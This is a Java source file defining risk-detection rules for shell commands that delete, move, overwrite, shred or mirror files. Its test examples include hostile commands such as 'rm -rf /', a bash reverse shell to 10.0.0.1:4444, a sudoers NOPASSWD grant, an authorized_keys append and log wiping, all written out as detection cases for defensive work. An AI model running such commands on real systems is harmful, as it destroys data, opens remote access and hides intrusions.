package dev.cmdai.domain.risk;

import static dev.cmdai.domain.risk.RiskLevel.CRITICAL;
import static dev.cmdai.domain.risk.RiskLevel.HIGH;
import static dev.cmdai.domain.risk.RiskLevel.MODERATE;

/** Removing, moving and overwriting files. */
final class FileRules {
    private FileRules() {}

    static final Topic TOPIC =
            new Topic(
                    "files",
                    Rule.of(
                                    "files.remove-root",
                                    CRITICAL,
                                    "Deletes the system, or everything that somebody has at home.",
                                    "rm -r|-R|--recursive @root|system|home|parent",
                                    "rm --no-preserve-root",
                                    "find-delete ** everything @root|system|home|parent")
                            .instead("ls -la", "rm -ri ./folder")
                            .matches("rm -rf /", "sudo rm -fr ~", "cd / && rm -rf *", "rm -r ..")
                            .not("rm -rf ./build", "rm -r /tmp/x"),
                    Rule.of(
                                    "files.remove-tree",
                                    HIGH,
                                    "Deletes a whole folder for good, without asking.",
                                    "rm -r|-R|--recursive -f|--force @outside|here|git|mayberoot",
                                    "rm -r|-R|--recursive -f|--force * !@made|temp",
                                    "rm -r|-R|--recursive @here|git|mayberoot",
                                    "rm -f|--force @root|system|home|mayberoot",
                                    "rm -f|--force @here @many",
                                    "rm @root|home|system|vital",
                                    "find-delete ** everything @here|outside|git|mayberoot",
                                    "find-delete !@temp",
                                    "find-delete ** everything",
                                    "srm|wipe",
                                    "rimraf @root|home|here|outside")
                            .instead("ls -la", "rm -ri ./folder")
                            .matches(
                                    "rm -rf *",
                                    "rm -rf /srv/data/x",
                                    "find . -delete",
                                    "rm -rf .git")
                            .not("rm -rf node_modules", "rm -f notes.txt", "rm -rf /tmp/x"),
                    Rule.of(
                                    "files.remove-unknown",
                                    HIGH,
                                    "Deletes whatever a variable names, which can be anything.",
                                    "rm -r|-R|--recursive @unknown %network|decoded|history")
                            .instead("echo rm -ri ./folder"),
                    Rule.of(
                                    "files.remove",
                                    MODERATE,
                                    "Deletes files for good.",
                                    "rm|unlink|rmdir|trash|rimraf *",
                                    "rm -r|-R|-f",
                                    "find-delete *")
                            .matches("rm notes.txt", "rm -rf build")
                            .not("rm --help"),
                    Rule.of(
                                    "files.lose-by-move",
                                    HIGH,
                                    "Moves files to where they are lost or the system breaks.",
                                    "mv * * >@null",
                                    "mv @root|system|home|vital *",
                                    "mv >@vital")
                            .instead("cp -a ./file ./backup")
                            .matches("mv notes.txt /dev/null", "mv /etc/passwd /tmp/x")
                            .not("mv a b", "mv /dev/null"),
                    Rule.of(
                                    "files.move",
                                    MODERATE,
                                    "Moves files; one that is already there is replaced.",
                                    "mv|rename|rename.ul|mmv * *",
                                    "rename|prename")
                            .matches("mv a b")
                            .not("mv --version"),
                    Rule.of(
                                    "files.overwrite-vital",
                                    CRITICAL,
                                    "Overwrites a disk, or files that the system needs.",
                                    "cp|install|rsync|ln|tee >@device|vital",
                                    "tee @device|vital !-a",
                                    "> @device",
                                    "> @vital")
                            .instead("cp -a /etc/fstab ./fstab.copy")
                            .matches("cat x > /dev/sda", "cp x /etc/passwd", "echo > /etc/fstab")
                            .not("cat x > /dev/null", "cp /etc/fstab /tmp/x"),
                    Rule.of(
                                    "files.write-rights",
                                    HIGH,
                                    "Changes who may log in or become root, or what runs by "
                                            + "itself.",
                                    ">|>> @auth|persist|system",
                                    ">> @vital",
                                    "cp|install|mv|tee >@auth|persist",
                                    "cp|install|mv|ln >@system",
                                    "tee @auth|persist|vital|system",
                                    "sed|gsed -i|--in-place @auth|vital")
                            .instead("cat /etc/hosts")
                            .matches(
                                    "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
                                    "echo key >> ~/.ssh/authorized_keys",
                                    "echo evil >> ~/.bashrc")
                            .not("cat /etc/passwd", "echo hi > notes.txt"),
                    Rule.of(
                                    "files.send-out",
                                    HIGH,
                                    "Connects to another machine through the shell itself.",
                                    ">|>> @net")
                            .matches("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
                    Rule.of(
                                    "files.wipe-log",
                                    HIGH,
                                    "Removes traces of what was done on this machine.",
                                    ">|>> @log",
                                    "rm|shred|truncate|unlink @log",
                                    "ln|cp * >@log")
                            .matches("> ~/.bash_history", "rm /var/log/auth.log"),
                    Rule.of(
                                    "files.copy",
                                    MODERATE,
                                    "Copies over files that may be there already.",
                                    "cp|install * *",
                                    "ln -f|--force")
                            .matches("cp a b"),
                    Rule.of(
                                    "files.edit",
                                    MODERATE,
                                    "Changes files in place.",
                                    "sed|gsed -i|--in-place",
                                    "tee *",
                                    "patch|dos2unix *")
                            .matches("sed -i s/a/b/ x")
                            .not("sed s/a/b/ x"),
                    Rule.of(
                                    "files.shred",
                                    HIGH,
                                    "Overwrites files so that nothing can bring them back.",
                                    "shred *",
                                    "truncate -s=0",
                                    "truncate -s=-*",
                                    "truncate --size=0")
                            .matches("shred -u key", "truncate -s 0 x")
                            .not("truncate -s 10M x", "shred --help"),
                    Rule.of("files.truncate", MODERATE, "Cuts or stretches files.", "truncate *")
                            .matches("truncate -s 10M x"),
                    Rule.of(
                                    "files.mirror",
                                    HIGH,
                                    "Deletes at the destination what the source does not have.",
                                    "rsync --delete|--delete-after|--delete-before|"
                                            + "--delete-excluded !-n|--dry-run",
                                    "rsync --del !-n|--dry-run",
                                    "rclone sync|purge|delete|cleanup|deletefile|move|rmdirs "
                                            + "!--dry-run",
                                    "rsync --remove-source-files",
                                    "robocopy ~/mir|/purge")
                            .instead("rsync -avn ./a/ ./b/")
                            .matches("rsync -a --delete a/ b/")
                            .not("rsync -a a/ b/", "rsync -an --delete a/ b/"),
                    Rule.of(
                                    "files.unpack-over-system",
                                    HIGH,
                                    "Unpacks over the system's own files.",
                                    "tar -x -C=/",
                                    "tar --absolute-names",
                                    "tar -P -x",
                                    "cpio ~no-absolute",
                                    "unzip -o -d=/")
                            .matches("tar -xf x.tar -C /"));
}
